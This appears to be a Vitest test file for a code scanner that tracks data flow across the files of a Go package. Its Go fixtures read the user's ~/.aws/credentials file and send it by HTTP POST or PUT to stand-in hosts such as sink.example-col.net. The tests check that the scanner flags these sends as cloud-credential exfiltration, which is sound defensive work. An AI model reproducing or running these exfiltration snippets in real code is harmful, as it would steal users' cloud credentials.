import { describe, expect, it } from 'vitest';
import type { FileFacts } from '../../src/analysis/extract.js';
import { DerivedFacts } from '../../src/model/derived.js';
import type { ScanModel } from '../../src/model/model.js';
import { joinedBehaviours } from '../../src/model/module-flows.js';
import { factsOf } from '../support/code.js';

/**
 * The join across the files of a Go package (src/model/module-flows.ts `goFunction`): a name a file uses
 * but does not define is found in another `.go` file of its folder with the same `package` clause, or in
 * the folder of its own module's package that an import names.
 */

async function modelOf(files: Record<string, string>): Promise<ScanModel> {
  const facts = new Map<string, FileFacts>();
  for (const [path, text] of Object.entries(files))
    if (path.endsWith('.go')) facts.set(path, (await factsOf('go', text)) as FileFacts);
  const paths = Object.keys(files).sort();
  return {
    files: {
      isFile: (p: string) => p in files,
      isDir: (p: string) => paths.some((f) => f.startsWith(`${p}/`)),
      filesUnder: (d: string) =>
        paths.filter((f) => d === '' || f.startsWith(`${d}/`)).map((path) => ({ path })),
      peek: async (p: string) => files[p],
      text: async (p: string) => ({ text: files[p] ?? '' }),
    },
    facts: async (p: string) => facts.get(p),
    derived: new DerivedFacts(),
  } as unknown as ScanModel;
}

const READER = [
  'package main',
  'import ("os"; "path/filepath")',
  'func cloudCreds() []byte {',
  '\thome, _ := os.UserHomeDir()',
  '\tb, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))',
  '\treturn b',
  '}',
].join('\n');

describe('a Go package is one program', () => {
  it('a send whose data another file of the package returns carries that secret', async () => {
    const model = await modelOf({
      't/creds.go': READER,
      't/main.go':
        'package main\nimport ("bytes"; "net/http")\nfunc main() {\n\thttp.Post("https://sink.example-col.net/u", "text/plain", bytes.NewReader(cloudCreds()))\n}\n',
    });
    const joined = await joinedBehaviours(model, 't/main.go');
    const [send] = [...joined.replaced.values()];
    expect(send).toMatchObject({ kind: 'send', data: { secret: 'cloud-credentials' } });
    expect(send?.across?.[0]).toMatchObject({ path: 't/creds.go', note: 'cloudCreds() returns it' });
  });

  it('a method of a type of another file that sends its parameter is a send at the call', async () => {
    const model = await modelOf({
      't/client.go': [
        'package main',
        'import ("bytes"; "net/http")',
        'type uploader struct{ base string; hc *http.Client }',
        'func newUploader() *uploader { return &uploader{base: "https://up.example-col.net", hc: http.DefaultClient} }',
        'func (u *uploader) put(name string, data []byte) {',
        '\treq, _ := http.NewRequest("PUT", u.base+"/"+name, bytes.NewReader(data))',
        '\tu.hc.Do(req)',
        '}',
      ].join('\n'),
      't/creds.go': READER,
      't/main.go': 'package main\nfunc main() {\n\tu := newUploader()\n\tu.put("c", cloudCreds())\n}\n',
    });
    const joined = await joinedBehaviours(model, 't/main.go');
    expect(joined.added).toMatchObject([{ kind: 'send', data: { secret: 'cloud-credentials' } }]);
  });

  it('another package of the module, named by its import path', async () => {
    const model = await modelOf({
      'm/go.mod': 'module example.com/tool\n\ngo 1.22\n',
      'm/internal/secrets/read.go': READER.replace('package main', 'package secrets').replace(
        'cloudCreds',
        'CloudCreds',
      ),
      'm/cmd/main.go':
        'package main\nimport ("bytes"; "net/http"; "example.com/tool/internal/secrets")\nfunc main() {\n\thttp.Post("https://sink.example-col.net/u", "text/plain", bytes.NewReader(secrets.CloudCreds()))\n}\n',
    });
    const joined = await joinedBehaviours(model, 'm/cmd/main.go');
    expect([...joined.replaced.values()]).toMatchObject([
      { kind: 'send', data: { secret: 'cloud-credentials' } },
    ]);
  });

  it('not across packages of one folder, nor to a file that defines no such name', async () => {
    const model = await modelOf({
      't/creds_test.go': READER.replace('package main', 'package main_test'),
      't/main.go':
        'package main\nimport ("bytes"; "net/http")\nfunc main() {\n\thttp.Post("https://sink.example-col.net/u", "text/plain", bytes.NewReader(cloudCreds()))\n}\n',
    });
    const joined = await joinedBehaviours(model, 't/main.go');
    expect(joined.replaced.size + joined.added.length).toBe(0);
  });
});
